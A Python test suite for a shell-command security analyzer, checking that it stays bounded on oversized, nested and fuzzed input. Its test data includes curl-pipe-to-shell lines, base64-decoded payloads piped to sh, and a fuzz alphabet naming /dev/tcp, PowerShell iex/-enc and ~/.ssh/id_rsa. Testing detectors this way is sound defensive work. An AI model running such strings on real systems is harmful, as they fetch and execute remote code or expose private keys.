"""Hostile input: the shell analyzer never crashes or hangs, whatever it is given."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skillscan.analyzers.shell import CommandContext, analyze_argv, analyze_command
from skillscan.analyzers.shell.infer import MAX_HITS

CTX = CommandContext("x.sh")
DIALECTS = ("bash", "powershell", "batch")


def timed(fn, *args, **kwargs):  # type: ignore[no-untyped-def]
    start = time.perf_counter()
    out = fn(*args, **kwargs)
    return out, time.perf_counter() - start


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("text", [
    "echo a; " * 10_000,
    "$(" * 5_000 + "curl https://x.example.org" + ")" * 5_000,
    "(" * 20_000 + "ls" + ")" * 20_000,
    "{ " * 5_000 + "ls; " + "} " * 5_000,
    "a | " * 8_000 + "sh",
    "x" * 1_500_000,
    '"' + "\\" * 100_000 + '"',
    "cat <<EOF\n" + "line\n" * 30_000,
    "`" * 10_001,
    "\x00\x01\x02\xff\ufffd" * 10_000,
    "eval " * 20_000,
    "bash -c '" * 2_000 + "id" + "'" * 2_000,
    "iex (" * 10_000,
    "^" * 50_000 + "\n" + "%A%" * 20_000,
])
def test_pathological_text_is_bounded(text: str, dialect: str) -> None:
    findings, seconds = timed(analyze_command, text, CTX, dialect=dialect)
    assert isinstance(findings, list)
    behaviour = [f for f in findings if f.rule_id != "analysis-incomplete"]
    assert len(behaviour) <= MAX_HITS
    if len(behaviour) == MAX_HITS:  # the bound bit: it is reported
        assert any(f.rule_id == "analysis-incomplete" for f in findings)
    assert seconds < 20, seconds


def test_decoder_bombs_are_bounded() -> None:
    big = base64.b64encode(b"curl https://x.example.org/ | sh\n" + b"#" * 300_000).decode()
    findings, seconds = timed(analyze_command, f"echo {big} | base64 -d | sh", CTX)
    assert seconds < 20
    hidden = [f for f in findings if f.rule_id == "shell-decoded-payload-exec"]
    assert hidden and len(hidden[0].decoded or "") == 256 * 1024  # the decoded text is capped
    assert any(f.rule_id == "remote-code-pipe-to-shell" for f in findings)
    nested = "id"
    for _ in range(40):
        nested = f"echo {base64.b64encode(nested.encode()).decode()} | base64 -d | sh"
    findings, seconds = timed(analyze_command, nested, CTX)
    assert seconds < 20


def test_many_findings_are_capped() -> None:
    text = "\n".join(f"curl https://h{i}.example.org/ | sh" for i in range(3_000))
    findings, seconds = timed(analyze_command, text, CTX)
    capped = [f for f in findings if f.rule_id == "analysis-incomplete"]
    assert len(findings) - len(capped) <= MAX_HITS and seconds < 30
    want = f"shell analysis of x.sh is incomplete: more than {MAX_HITS:,} findings in one command text: the analysis " \
        "stopped there"
    assert [f.message for f in capped] == [want]


def test_argv_garbage() -> None:
    assert analyze_argv([], CTX) == []
    assert analyze_argv(["", "x"], CTX) == []
    out = analyze_argv(["bash", "-c"], CTX)
    assert isinstance(out, list)
    out = analyze_argv(["sh"] + ["-c"] * 50_000, CTX)
    assert isinstance(out, list)
    out = analyze_argv(["\x00", "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace")], CTX)
    assert isinstance(out, list)


SHELLISH = st.lists(st.sampled_from(list("abcsh -|&;<>()$`'\"\\\n{}[]=~/*.%^#!0123456789:@+")
                                    + ["curl ", "base64 -d", "| sh", "<<EOF\n", "EOF\n", "$(", "eval ", "bash -c ",
                                       "/dev/tcp/", "-enc ", "iex ", "powershell ", "http://", "~/.ssh/id_rsa"]),
                    max_size=120).map("".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=SHELLISH, dialect=st.sampled_from(DIALECTS), line=st.integers(min_value=-5, max_value=10**6))
def test_fuzz_never_crashes(text: str, dialect: str, line: int) -> None:
    findings = analyze_command(text, CommandContext("f.sh", line=line, column=line % 7), dialect=dialect)
    for f in findings:
        assert f.location.line >= 1 and f.location.column >= 1


@settings(max_examples=60, deadline=None)
@given(argv=st.lists(st.text(max_size=40), max_size=12))
def test_fuzz_argv_never_crashes(argv: list[str]) -> None:
    assert isinstance(analyze_argv(argv, CTX), list)
